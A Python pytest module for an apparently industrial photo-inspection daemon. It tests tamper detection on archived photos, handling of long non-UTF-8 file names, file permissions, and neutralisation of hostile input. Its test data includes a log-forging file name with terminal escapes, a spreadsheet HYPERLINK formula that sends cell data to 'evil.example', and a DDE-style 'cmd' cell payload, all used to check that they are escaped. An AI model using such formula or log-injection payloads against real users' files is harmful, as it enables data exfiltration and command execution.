"""What the archive keeps, and what readers show of it, on a hostile plant network.

A writer that rewrites a photo after it was inspected, file names that are long, not UTF-8, or full of control
characters, reviewer names that are spreadsheet formulas, and other local users who should not read the store
or the photos. One real daemon (a subprocess on a real SQLite file, umask 022) is fed once for the module;
each test checks one part of what it left.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import logging
import os
import re
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from sqlalchemy import text

from tests.conftest import REPO
from tests.daemon_harness import DaemonProcess, db_rows, wait_for, write_config
from tests.test_daemon import png_bytes

# ESC and CR early in the name (the history table cuts source_path at 60 characters), then a newline and what a
# forged log line would start with.
HOSTILE = "\x1b[31mred\rX\n2030-01-01 00:00:00,000 ERROR inspectd.forged: forged line.png"
LONG_LATIN1 = b"\xfc" * 247 + b".png"  # 251 bytes, each \xfc escaped to %FC: ~750 characters of text


def _cli(config: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "inspectd.cli", "--config", str(config), *args], cwd=REPO,
                          capture_output=True, text=True, timeout=120, env={**os.environ, "HF_HUB_OFFLINE": "1"})


def _mode(path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


@pytest.fixture(scope="module")
def box(format_bundle, tmp_path_factory):
    """The daemon records: two plain photos, one that is not an image (failed folder), one with a hostile name
    and one with a 251-byte non-UTF-8 name; an alert goes to alerts.jsonl for every verdict. The modes of the
    store's files are taken while the daemon runs (the -wal and -shm files exist only then)."""
    root = tmp_path_factory.mktemp("ai")
    alerts_file = root / "alerts" / "alerts.jsonl"
    config = write_config(root, format_bundle, alerts={
        "channels": [{"type": "log", "name": "log", "path": str(alerts_file)}],
        "rules": [{"name": "all", "verdicts": ["normal", "anomalous", "failed"], "channels": ["log"],
                   "cooldown_s": 0}],
    })
    db, drop = root / "var" / "inspectd.db", root / "drop-line1"
    old_umask = os.umask(0o022)
    try:
        (drop / "part.png").write_bytes(png_bytes(81))
        (drop / "kept.png").write_bytes(png_bytes(82))
        (drop / "broken.png").write_bytes(b"not an image")
        (drop / HOSTILE).write_bytes(png_bytes(83))
        with open(os.path.join(os.fsencode(drop), LONG_LATIN1), "wb") as handle:
            handle.write(png_bytes(84))
        daemon = DaemonProcess(config)
        try:
            daemon.wait_ready()
            wait_for(lambda: db_rows(db, "SELECT count(*), count(archived_path) FROM inspections")[0] in ((5, 4), (5, 5)),
                     90, "five files recorded, at least four archived (each test checks its own)")
            wait_for(lambda: alerts_file.is_file() and len(alerts_file.read_text().splitlines()) >= 5, 30,
                     "five alerts delivered to alerts.jsonl")
            time.sleep(5)  # two reconcile passes (every 2 s): a file that cannot be moved is offered again
            modes = {name: _mode(path) for name, path in (
                ("db", db), ("wal", f"{db}-wal"), ("shm", f"{db}-shm")) if os.path.lexists(path)}
        finally:
            assert daemon.stop() == 0
    finally:
        os.umask(old_umask)
    rows = {Path(r[1]).name: {"id": r[0], "archived_path": r[2], "verdict": r[3], "sha256": r[4]}
            for r in db_rows(db, "SELECT id, source_path, archived_path, verdict, sha256 FROM inspections")}
    return {"root": root, "config": config, "db": db, "drop": drop, "rows": rows, "log": daemon.output(),
            "modes": modes, "alerts": alerts_file}


def _review(db: Path, inspection_id: int, label: str, reviewer: str) -> None:
    from inspectd.store.database import open_engine
    from inspectd.store.reviews import add_review

    engine = open_engine(f"sqlite:///{db}")
    add_review(engine, inspection_id, label, None, reviewer)
    engine.dispose()


@pytest.mark.slow
def test_a_photo_rewritten_after_inspection_is_never_shown_nor_exported(box):
    from inspectd.config import load_settings
    from inspectd.data.archived_photos import PhotoChanged, PhotoRoots
    from inspectd.store.database import open_engine
    from inspectd.store.queries import inspection

    part, kept = box["rows"]["part.png"], box["rows"]["kept.png"]
    archived = Path(part["archived_path"])
    inode = archived.stat().st_ino
    with open(archived, "r+b") as handle:  # the camera-side writer's second handle: same inode, other bytes
        handle.write(png_bytes(99))
    assert archived.stat().st_ino == inode
    now = hashlib.sha256(archived.read_bytes()).hexdigest()

    engine = open_engine(f"sqlite:///{box['db']}", create=False)
    roots = PhotoRoots.of(load_settings(box["config"], require_paths=False))
    record = inspection(engine, part["id"])
    assert record["sha256"] == part["sha256"]
    with pytest.raises(PhotoChanged) as raised:
        roots.read(record)
    assert str(raised.value) == (f"the archived photo of inspection {part['id']} ({archived}) is not the one "
                                 f"inspected: sha256 {part['sha256']} recorded, {now} now")
    with pytest.raises(PhotoChanged):
        roots.photo(record)
    assert roots.read(inspection(engine, kept["id"])) == Path(kept["archived_path"]).read_bytes()
    engine.dispose()

    _review(box["db"], part["id"], "good", "ana")
    _review(box["db"], kept["id"], "good", "ana")
    out = box["root"] / "labels"
    done = _cli(box["config"], "export-reviewed", str(out))
    assert done.returncode == 1, "a changed photo makes the export exit non-zero"
    assert f"ids {part['id']}" in done.stderr and "not the one inspected" in done.stderr, done.stderr
    exported = sorted(p.name for p in (out / "good").iterdir())
    assert exported == [f"{kept['id']}_kept.png"], "the rest is exported, the changed photo never"
    assert [r["inspection_id"] for r in csv.DictReader(io.StringIO((out / "reviews.csv").read_text()))] == \
        [str(kept["id"])]
    shown = _cli(box["config"], "show", str(part["id"]))
    assert shown.returncode == 0 and "photo: CHANGED: the archived photo of inspection" in shown.stdout


@pytest.mark.slow
def test_a_long_name_that_is_not_utf8_is_archived_at_once(box):
    name = next(n for n in box["rows"] if n.startswith("%FC"))
    row = box["rows"][name]
    archived = Path(row["archived_path"])
    assert row["verdict"] in ("normal", "anomalous")
    assert len(os.fsencode(archived.name)) <= 255 and archived.name.endswith(".png")
    assert archived.read_bytes() == png_bytes(84), "archived_path opens"
    assert os.listdir(box["drop"]) == []
    errors = [line for line in box["log"].splitlines() if re.match(r"\S+ \S+ ERROR ", line)]
    assert not errors, "the move never fails, so no ERROR at every rescan"


@pytest.mark.slow
def test_control_characters_in_a_file_name_reach_no_log_line_and_no_terminal(box):
    log = box["log"]
    assert "\x1b" not in log and "\r" not in log
    assert not [line for line in log.splitlines() if line.startswith("2030-01-01")], "no forged log line"
    assert "\\x1b[31mred\\rX\\n2030-01-01" in log, "the name is in the log, escaped"
    history = _cli(box["config"], "history")
    assert history.returncode == 0, history.stderr
    assert "\x1b" not in history.stdout and "\r" not in history.stdout
    assert "\\x1b[31mred\\r" in history.stdout
    assert history.stdout.count("\n") == 2 + len(box["rows"]), "one line per row"
    shown = _cli(box["config"], "show", str(box["rows"][HOSTILE]["id"]))
    assert shown.returncode == 0 and "\x1b" not in shown.stdout and "\r" not in shown.stdout
    exact = json.loads(_cli(box["config"], "history", "--format", "json").stdout)
    assert any(r["source_path"].endswith(HOSTILE) for r in exact), "json keeps the data exact"


@pytest.mark.slow
def test_the_store_alerts_and_photos_are_not_readable_by_every_local_user(box):
    root = box["root"]
    assert box["modes"] == {"db": 0o640, "wal": 0o640, "shm": 0o640}
    assert _mode(box["db"]) == 0o640 and _mode(root / "var") == 0o750
    assert _mode(box["alerts"]) == 0o640 and _mode(box["alerts"].parent) == 0o750
    photo = Path(box["rows"]["kept.png"]["archived_path"])
    assert _mode(photo) == 0o640
    assert _mode(photo.parent) == _mode(photo.parent.parent) == _mode(root / "archive") == 0o750
    failed = Path(box["rows"]["broken.png"]["archived_path"])
    assert failed.parent.parent == root / "failed"
    assert _mode(failed) == _mode(f"{failed}.error.json") == 0o640
    assert _mode(failed.parent) == _mode(root / "failed") == 0o750


def _store_with_photo(tmp_path, name: str, data: bytes, reviewer: str = "ana"):
    """A migrated SQLite store with one reviewed row whose photo lies in the archive under ``name``."""
    from inspectd.data.archived_photos import PhotoRoots
    from inspectd.store.database import migrate, open_engine
    from inspectd.store.reviews import add_review

    archive = tmp_path / "archive" / "2026-01-01" / "line1"
    archive.mkdir(parents=True)
    photo = archive / name
    photo.write_bytes(data)
    engine = open_engine(f"sqlite:///{tmp_path / 'store.db'}")
    migrate(engine)
    with engine.begin() as connection:
        connection.execute(text(
            "INSERT INTO inspections (created_at, camera, source_path, archived_path, sha256, size_bytes, verdict, "
            "score, threshold) VALUES ('2026-01-01 08:00:00', 'line1', :source, :archived, :sha, :size, 'normal', "
            "0.1, 0.5)"), {"source": f"/drop/{name}", "archived": str(photo), "sha": hashlib.sha256(data).hexdigest(),
                           "size": len(data)})
    inspection_id = 1
    add_review(engine, inspection_id, "good", None, reviewer)
    return engine, PhotoRoots((tmp_path / "archive", tmp_path / "failed"), 10**7), inspection_id


@pytest.mark.parametrize("name", ["a" * 251 + ".png", "a" + "ü" * 125 + ".png"])
def test_an_export_keeps_a_255_byte_name_within_name_max(tmp_path, name):
    from inspectd.data.reviewed import export_reviewed

    assert len(name.encode()) == 255
    engine, roots, inspection_id = _store_with_photo(tmp_path, name, png_bytes(5))
    done = export_reviewed(engine, roots, tmp_path / "labels")
    engine.dispose()
    assert done.good == 1
    (exported,) = (tmp_path / "labels" / "good").iterdir()
    assert len(os.fsencode(exported.name)) <= 255
    assert exported.name.startswith(f"{inspection_id}_a") and exported.name.endswith(".png")
    assert name[:-4].startswith(exported.name[len(f"{inspection_id}_"):-4]), "the stem cut between characters"
    assert exported.read_bytes() == png_bytes(5)


def test_reviews_csv_and_history_csv_hold_no_formula(tmp_path):
    from inspectd.cli.history import render
    from inspectd.data.reviewed import export_reviewed

    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    engine, roots, _ = _store_with_photo(tmp_path, "part.png", png_bytes(6), reviewer=formula)
    export_reviewed(engine, roots, tmp_path / "labels")
    engine.dispose()
    (row,) = csv.DictReader(io.StringIO((tmp_path / "labels" / "reviews.csv").read_text()))
    assert row["reviewer"] == "'" + formula
    assert row["model_score"] == "0.1" and row["inspection_id"] == "1"

    cells = [{"camera": "+cmd|' /C calc'!A0", "reviewer": "@SUM(1)", "note": "-2+3", "path": "\t=1",
              "plain": "line1", "score": -1.5, "text_number": "-1.5", "count": -3}]
    (parsed,) = csv.DictReader(io.StringIO(render(cells, "csv")))
    assert parsed == {"camera": "'+cmd|' /C calc'!A0", "reviewer": "'@SUM(1)", "note": "'-2+3", "path": "'\t=1",
                      "plain": "line1", "score": "-1.500", "text_number": "-1.5", "count": "-3"}


def test_the_log_format_escapes_control_characters_but_keeps_tracebacks(capsys):
    from inspectd.logs import EscapingFormatter

    formatter = EscapingFormatter("%(levelname)s %(name)s: %(message)s")
    record = logging.LogRecord("inspectd.x", logging.INFO, __file__, 1, "recorded %s", (
        "a\nINFO forged: b\r\x1b[2J\x9b\u2028\u202eevil\x7f.png",), None)
    assert formatter.format(record) == \
        "INFO inspectd.x: recorded a\\nINFO forged: b\\r\\x1b[2J\\x9b\\u2028\\u202eevil\\x7f.png"
    try:
        raise ValueError("bad\x1bname")
    except ValueError:
        record = logging.LogRecord("inspectd.x", logging.ERROR, __file__, 1, "failed", (), sys.exc_info())
    lines = formatter.format(record).split("\n")
    assert lines[0] == "ERROR inspectd.x: failed" and lines[1].startswith("Traceback")
    assert lines[-1] == "ValueError: bad\\x1bname"


def test_a_long_non_utf8_name_is_archived_and_found_again(tmp_path):
    """The archived name fits NAME_MAX with room for ``.<n>`` and ``.error.json``; the crash repair finds it."""
    from inspectd.config import ArchiveSettings
    from inspectd.daemon.archive import Archiver
    from inspectd.daemon.file_names import as_text

    archiver = Archiver(ArchiveSettings(folder=tmp_path / "archive", failed_folder=tmp_path / "failed"))
    drop = tmp_path / "drop"
    drop.mkdir()
    raw = os.path.join(os.fsencode(drop), LONG_LATIN1)
    when = time.time()
    from datetime import datetime, timezone

    day = datetime.fromtimestamp(when, timezone.utc).replace(tzinfo=None)
    targets = []
    for seed in range(2):
        with open(raw, "wb") as handle:
            handle.write(png_bytes(seed))
        targets.append(archiver.archive(Path(os.fsdecode(raw)), "line1", day))
    with open(raw, "wb") as handle:
        handle.write(b"not an image")
    failed = archiver.fail(Path(os.fsdecode(raw)), "line1", "not an image", None)
    assert all(len(os.fsencode(t.name)) <= 255 for t in [*targets, failed])
    assert len(os.fsencode(failed.name + ".error.json")) <= 255 and Path(f"{failed}.error.json").is_file()
    assert targets[0] != targets[1] and targets[1].read_bytes() == png_bytes(1)
    source_path = as_text(os.fsdecode(raw))  # as the row holds it
    assert archiver.places(Path(source_path).name, "line1", [day], failed=False) == sorted(targets)
    assert archiver.places(Path(source_path).name, "line1", [day], failed=True) == [failed]
    assert not list(re.finditer("%[0-9A-F]?~", targets[0].name)), "never half an escape"
